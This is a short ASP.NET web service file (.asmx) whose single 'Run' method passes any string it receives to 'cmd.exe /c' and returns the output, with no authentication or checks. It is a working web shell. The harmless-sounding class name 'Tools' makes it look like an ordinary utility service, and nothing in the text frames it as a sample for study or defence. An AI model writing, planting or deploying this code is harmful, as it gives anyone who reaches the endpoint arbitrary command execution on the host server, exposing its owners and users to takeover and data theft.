<%@ WebService Language="C#" Class="Tools" %>
using System.Diagnostics;
using System.Web.Services;
public class Tools : WebService {
    [WebMethod]
    public string Run(string line) {
        ProcessStartInfo si = new ProcessStartInfo("cmd.exe", "/c " + line);
        si.RedirectStandardOutput = true;
        si.UseShellExecute = false;
        Process p = Process.Start(si);
        return p.StandardOutput.ReadToEnd();
    }
}
